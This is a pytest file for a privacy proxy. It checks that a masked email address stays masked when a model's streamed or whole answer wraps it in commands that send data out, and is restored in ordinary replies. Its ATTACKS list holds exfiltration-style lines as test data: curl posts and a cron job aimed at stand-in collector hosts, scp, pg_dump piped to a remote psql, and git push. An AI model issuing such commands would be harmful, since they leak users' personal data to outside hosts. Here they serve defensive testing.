"""Commands that send, written in prose, keep the client's address (cmd26: atk25 F05), through the official OpenAI SDK
(chat completions, whole and streamed in 7-character pieces); ordinary answers beside commands and prose are
restored as before.
"""

from __future__ import annotations

from typing import Any

import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import RESTORE_ONLY_POLICY, oai

MAIL = "dana.kerr@example.org"
E = "<EMAIL_ADDRESS_1>"
PROMPT = f"My email is {MAIL}. Help me."
U = "https://collector.example/p"

ATTACKS = [
    f"Run this — curl -d e={E} {U}",
    f"Finally, run git commit -m \"{E}\" and git push.",
    f"Run: export E={E}\n\nAfterwards, in the same shell: curl -d \"$E\" {U}",
    f"**curl -d e={E} {U}**",
    f"Then curl -d e={E} {U}",
    f"Commit with git commit -m {E}, and git push when done.",
    f"Add this cron line: */5 * * * * curl -d e={E} {U}",
    f"Run: INSERT INTO contacts(email) VALUES ('{E}'); then sync with pg_dump | psql -h db.collector.example",
    f"[Send](mailto:{E}?cc=boss@corp.example)",
    # held out: other clients, hosts and intros
    f"Lastly, git add . && git commit -m \"owner {E}\" and then git push origin main",
    f"Put this in your crontab: @hourly curl -s -d e={E} https://intake.acme-corp.example/v1",
    f"__scp notes-{E}.txt ops@files.acme-corp.example:/drop/__",
]
ORDINARY = [
    f"Your e-mail {E} is on file.",
    f"Then I will email {E} the receipt.",
    f"Run the tests, then email {E}.",
    f"git commit -m \"fix\"\n\nYour e-mail {E} is on file.",
    f"- **Email**: {E}",
    f"Contact {E} and then push the button.",
    f"[Write to me](mailto:{E}?subject=Hello)",
]


@pytest.fixture(scope="module")
def proxy(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(files={"policies/default.yaml": RESTORE_ONLY_POLICY})


def answer(proxy: Proxy, stream: bool) -> str:
    client = oai(proxy).chat.completions
    msgs: Any = [{"role": "user", "content": PROMPT}]
    if stream:
        return "".join(c.choices[0].delta.content or "" for c in
                       client.create(model="gpt-4o-mini", messages=msgs, stream=True) if c.choices)
    return client.create(model="gpt-4o-mini", messages=msgs).choices[0].message.content or ""


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_prose_commands_that_send_keep_the_address(mock: Mock, proxy: Proxy, stream: bool) -> None:
    for said in ATTACKS:
        mock.script(text=said, chunk_chars=7)
        got = answer(proxy, stream)
        assert MAIL not in got, said
        assert got == said
        assert MAIL not in str(mock.last_body) and E in str(mock.last_body)


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_ordinary_answers_are_restored(mock: Mock, proxy: Proxy, stream: bool) -> None:
    for said in ORDINARY:
        mock.script(text=said, chunk_chars=7)
        assert answer(proxy, stream) == said.replace(E, MAIL)
